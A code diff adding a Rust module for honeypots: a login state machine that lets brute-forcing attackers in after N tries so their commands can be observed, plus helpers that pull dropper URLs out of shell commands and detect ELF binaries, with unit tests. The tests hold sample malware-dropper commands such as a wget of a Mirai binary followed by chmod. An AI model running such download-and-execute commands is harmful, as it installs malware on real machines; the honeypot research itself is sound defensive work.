@@ -1,0 +1,233 @@
+//! Shared building blocks for the deployed honeypots.
+
+use std::collections::HashMap;
+
+use ofh_net::ConnToken;
+
+/// Outcome of feeding a line into a login state machine.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum LoginStep {
+    /// Send this prompt and wait.
+    Prompt(&'static str),
+    /// A full credential pair arrived.
+    Attempt {
+        username: String,
+        password: String,
+        success: bool,
+    },
+    /// The session is in the (fake) shell; the line is a command.
+    Command(String),
+}
+
+/// A username/password login state machine shared by the Telnet- and
+/// SSH-style services.
+///
+/// `accept_after` mimics Cowrie's behaviour of eventually accepting a
+/// brute-forcing attacker so the interesting part (shell commands, droppers)
+/// can be observed: the Nth attempt on a connection always succeeds.
+#[derive(Debug, Default)]
+pub struct LoginMachine {
+    /// Accept any credentials on the Nth attempt (0 = never).
+    pub accept_after: u32,
+    /// Credentials accepted immediately.
+    pub accept_creds: Vec<(String, String)>,
+    state: HashMap<ConnToken, LoginState>,
+}
+
+#[derive(Debug, Clone)]
+enum LoginState {
+    AwaitUser { attempts: u32 },
+    AwaitPass { username: String, attempts: u32 },
+    Shell,
+}
+
+impl LoginMachine {
+    pub fn new(accept_after: u32) -> Self {
+        LoginMachine {
+            accept_after,
+            accept_creds: Vec::new(),
+            state: HashMap::new(),
+        }
+    }
+
+    pub fn open(&mut self, conn: ConnToken) {
+        self.state.insert(conn, LoginState::AwaitUser { attempts: 0 });
+    }
+
+    pub fn close(&mut self, conn: ConnToken) {
+        self.state.remove(&conn);
+    }
+
+    pub fn in_shell(&self, conn: ConnToken) -> bool {
+        matches!(self.state.get(&conn), Some(LoginState::Shell))
+    }
+
+    /// Feed one text line; returns what happened.
+    pub fn feed(&mut self, conn: ConnToken, line: &str) -> LoginStep {
+        let state = self
+            .state
+            .entry(conn)
+            .or_insert(LoginState::AwaitUser { attempts: 0 })
+            .clone();
+        match state {
+            LoginState::AwaitUser { attempts } => {
+                self.state.insert(
+                    conn,
+                    LoginState::AwaitPass {
+                        username: line.to_string(),
+                        attempts,
+                    },
+                );
+                LoginStep::Prompt("Password: ")
+            }
+            LoginState::AwaitPass { username, attempts } => {
+                let attempts = attempts + 1;
+                let success = self
+                    .accept_creds
+                    .iter()
+                    .any(|(u, p)| *u == username && *p == line)
+                    || (self.accept_after > 0 && attempts >= self.accept_after);
+                self.state.insert(
+                    conn,
+                    if success {
+                        LoginState::Shell
+                    } else {
+                        LoginState::AwaitUser { attempts }
+                    },
+                );
+                LoginStep::Attempt {
+                    username,
+                    password: line.to_string(),
+                    success,
+                }
+            }
+            LoginState::Shell => LoginStep::Command(line.to_string()),
+        }
+    }
+}
+
+/// Split a raw buffer into complete lines (by `\n`), returning leftover bytes.
+/// Honeypots accumulate TCP data and feed complete lines to their state
+/// machines.
+pub fn drain_lines(buf: &mut Vec<u8>) -> Vec<String> {
+    let mut lines = Vec::new();
+    while let Some(pos) = buf.iter().position(|&b| b == b'\n') {
+        let line: Vec<u8> = buf.drain(..=pos).collect();
+        let text = String::from_utf8_lossy(&line)
+            .trim_end_matches(['\r', '\n'])
+            .trim_start_matches('\0')
+            .to_string();
+        lines.push(text);
+    }
+    lines
+}
+
+/// Extract a URL from a shell command (`wget http://… ; chmod +x …`) — the
+/// paper traces malware sources through exactly these dropper URLs (§5.3).
+pub fn extract_url(command: &str) -> Option<String> {
+    for word in command.split_whitespace() {
+        if word.starts_with("http://") || word.starts_with("https://") || word.starts_with("ftp://")
+        {
+            return Some(word.trim_end_matches(';').to_string());
+        }
+    }
+    None
+}
+
+/// Whether a blob looks like a dropped binary (ELF magic) — what the paper's
+/// pcap analysis pulls out and hashes for Table 13.
+pub fn looks_like_binary(data: &[u8]) -> bool {
+    data.len() >= 4 && data[..4] == [0x7F, b'E', b'L', b'F']
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn conn(n: u64) -> ConnToken {
+        ConnToken(n)
+    }
+
+    #[test]
+    fn login_machine_accepts_after_n() {
+        let mut m = LoginMachine::new(2);
+        m.open(conn(1));
+        assert_eq!(m.feed(conn(1), "root"), LoginStep::Prompt("Password: "));
+        let first = m.feed(conn(1), "wrong");
+        assert_eq!(
+            first,
+            LoginStep::Attempt {
+                username: "root".into(),
+                password: "wrong".into(),
+                success: false
+            }
+        );
+        m.feed(conn(1), "root");
+        let second = m.feed(conn(1), "alsowrong");
+        assert!(matches!(second, LoginStep::Attempt { success: true, .. }));
+        assert!(m.in_shell(conn(1)));
+        assert_eq!(
+            m.feed(conn(1), "wget http://x/bot"),
+            LoginStep::Command("wget http://x/bot".into())
+        );
+    }
+
+    #[test]
+    fn login_machine_accepts_known_creds_immediately() {
+        let mut m = LoginMachine::new(0);
+        m.accept_creds.push(("admin".into(), "admin".into()));
+        m.open(conn(2));
+        m.feed(conn(2), "admin");
+        assert!(matches!(
+            m.feed(conn(2), "admin"),
+            LoginStep::Attempt { success: true, .. }
+        ));
+        // accept_after = 0 means wrong creds never succeed.
+        m.open(conn(3));
+        for _ in 0..5 {
+            m.feed(conn(3), "x");
+            assert!(matches!(
+                m.feed(conn(3), "y"),
+                LoginStep::Attempt { success: false, .. }
+            ));
+        }
+    }
+
+    #[test]
+    fn sessions_are_independent() {
+        let mut m = LoginMachine::new(1);
+        m.open(conn(1));
+        m.open(conn(2));
+        m.feed(conn(1), "a");
+        assert!(!m.in_shell(conn(2)));
+        m.close(conn(1));
+        assert!(!m.in_shell(conn(1)));
+    }
+
+    #[test]
+    fn line_draining() {
+        let mut buf = b"USER admin\r\nPASS ad".to_vec();
+        let lines = drain_lines(&mut buf);
+        assert_eq!(lines, vec!["USER admin".to_string()]);
+        assert_eq!(buf, b"PASS ad");
+        buf.extend_from_slice(b"min\n");
+        assert_eq!(drain_lines(&mut buf), vec!["PASS admin".to_string()]);
+        assert!(buf.is_empty());
+    }
+
+    #[test]
+    fn url_extraction() {
+        assert_eq!(
+            extract_url("wget http://1.2.3.4/mirai.arm7; chmod +x mirai.arm7"),
+            Some("http://1.2.3.4/mirai.arm7".to_string())
+        );
+        assert_eq!(extract_url("ls -la"), None);
+    }
+
+    #[test]
+    fn binary_sniffing() {
+        assert!(looks_like_binary(&[0x7F, b'E', b'L', b'F', 0, 0]));
+        assert!(!looks_like_binary(b"#!/bin/sh"));
+        assert!(!looks_like_binary(b"\x7fEL"));
+    }
+}
